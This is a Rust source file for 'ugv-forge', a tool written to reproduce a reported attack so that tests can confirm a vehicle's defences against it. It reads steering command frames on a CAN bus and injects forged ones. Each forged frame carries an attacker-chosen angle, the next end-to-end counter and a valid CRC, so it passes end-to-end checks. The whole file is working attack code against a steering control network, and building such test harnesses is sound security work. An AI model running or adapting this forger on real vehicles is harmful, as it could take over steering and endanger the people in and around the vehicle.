//! `ugv-forge`: the attack of issue 11 item 5, for the tests that pin its defences.
//! It answers every STEERING_CMD it sees with a forged one carrying the next counter,
//! the same enable bit and rate, and its own target angle; a well-formed frame with a
//! good CRC, which E2E alone cannot tell from the controller's.
//!
//! ```text
//! ugv-forge --can IFACE [--angle 35] [--seconds 10] [--as-user nobody] [--netns /run/netns/NAME]
//! ```
//!
//! It forges until `--seconds` have passed or its standard input closes, whichever
//! comes first (a test holds the pipe for as long as the run lasts).
//!
//! `--as-user` drops to that user first (from root), as the unprivileged local user of
//! the report; `--netns` tries to join a run's network namespace first. Prints one
//! JSON line: what it did, or why it could not (exit 3 when refused: the interface or
//! the namespace could not be opened). Exit 2 on a usage error.

use std::io::Read;
use std::process::ExitCode;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use golf_car_can::e2e::{counter_of, protect};
use golf_car_can::{CanMessage, Payload, SteeringCmd};
use socketcan::{CanDataFrame, CanFrame, CanSocket, EmbeddedFrame, Id, Socket, StandardId};

#[derive(Debug)]
struct Args {
    can: String,
    angle: f64,
    seconds: f64,
    as_user: Option<String>,
    netns: Option<String>,
}

fn parse() -> Result<Args, String> {
    let mut args = Args {
        can: String::new(),
        angle: 35.0,
        seconds: 10.0,
        as_user: None,
        netns: None,
    };
    let mut it = std::env::args().skip(1);
    while let Some(flag) = it.next() {
        let mut value = || it.next().ok_or_else(|| format!("{flag} needs a value"));
        match flag.as_str() {
            "--can" => args.can = value()?,
            "--angle" => {
                args.angle = value()?
                    .parse::<f64>()
                    .ok()
                    .filter(|a| a.is_finite() && a.abs() <= 45.0)
                    .ok_or("--angle: degrees within +-45")?;
            }
            "--seconds" => {
                args.seconds = value()?
                    .parse::<f64>()
                    .ok()
                    .filter(|s| s.is_finite() && *s > 0.0 && *s <= 3600.0)
                    .ok_or("--seconds: 0 to 3600")?;
            }
            "--as-user" => args.as_user = Some(value()?),
            "--netns" => args.netns = Some(value()?),
            other => return Err(format!("unknown argument {other:?}")),
        }
    }
    if args.can.is_empty() {
        return Err("--can IFACE is required".to_owned());
    }
    Ok(args)
}

fn drop_to(user: &str) -> Result<(), String> {
    use nix::unistd::{Gid, User, setgid, setgroups, setuid};
    let u = User::from_name(user)
        .map_err(|e| format!("looking up {user}: {e}"))?
        .ok_or_else(|| format!("no user {user}"))?;
    setgroups(&[] as &[Gid]).map_err(|e| format!("setgroups: {e}"))?;
    setgid(u.gid).map_err(|e| format!("setgid {}: {e}", u.gid))?;
    setuid(u.uid).map_err(|e| format!("setuid {}: {e}", u.uid))?;
    Ok(())
}

fn join(path: &str) -> Result<(), String> {
    let ns = std::fs::File::open(path).map_err(|e| format!("opening {path}: {e}"))?;
    nix::sched::setns(&ns, nix::sched::CloneFlags::CLONE_NEWNET)
        .map_err(|e| format!("joining {path}: {e}"))
}

fn report(fields: serde_json::Value) {
    println!("{fields}");
}

fn main() -> ExitCode {
    let args = match parse() {
        Ok(a) => a,
        Err(e) => {
            eprintln!("ugv-forge: {e}");
            return ExitCode::from(2);
        }
    };
    if let Some(user) = &args.as_user
        && let Err(e) = drop_to(user)
    {
        eprintln!("ugv-forge: {e}");
        return ExitCode::from(2);
    }
    let uid = nix::unistd::getuid().as_raw();
    if let Some(path) = &args.netns
        && let Err(e) = join(path)
    {
        report(serde_json::json!({"refused": "netns", "uid": uid, "error": e}));
        return ExitCode::from(3);
    }
    let sock = match CanSocket::open(&args.can) {
        Ok(s) => s,
        Err(e) => {
            report(serde_json::json!({
                "refused": "interface", "uid": uid, "can": args.can, "error": e.to_string()
            }));
            return ExitCode::from(3);
        }
    };
    let _ = sock.set_read_timeout(Duration::from_millis(100));
    let closed = Arc::new(AtomicBool::new(false));
    let flag = Arc::clone(&closed);
    std::thread::spawn(move || {
        let mut sink = [0u8; 64];
        let mut stdin = std::io::stdin();
        while matches!(stdin.read(&mut sink), Ok(n) if n > 0) {}
        flag.store(true, Ordering::Relaxed);
    });
    let (mut seen, mut forged, mut errors) = (0u64, 0u64, 0u64);
    let end = Instant::now() + Duration::from_secs_f64(args.seconds);
    while Instant::now() < end && !closed.load(Ordering::Relaxed) {
        let Ok(CanFrame::Data(frame)) = sock.read_frame() else {
            continue;
        };
        if frame.id() != Id::Standard(StandardId::new(SteeringCmd::ID).unwrap_or(StandardId::ZERO))
        {
            continue;
        }
        let Ok(data) = Payload::try_from(EmbeddedFrame::data(&frame)) else {
            continue;
        };
        seen += 1;
        let Ok(cmd) = SteeringCmd::decode(&data) else {
            continue;
        };
        let Ok(mut fake) = (SteeringCmd {
            target_angle: args.angle,
            ..cmd
        })
        .encode() else {
            continue;
        };
        protect(SteeringCmd::ID, &mut fake, counter_of(&data) + 1);
        let sent = StandardId::new(SteeringCmd::ID)
            .and_then(|id| CanDataFrame::new(id, &fake))
            .map(|f| sock.write_frame(&f));
        match sent {
            Some(Ok(())) => forged += 1,
            _ => errors += 1,
        }
    }
    report(serde_json::json!({
        "uid": uid, "can": args.can, "seen": seen, "forged": forged, "errors": errors
    }));
    ExitCode::SUCCESS
}
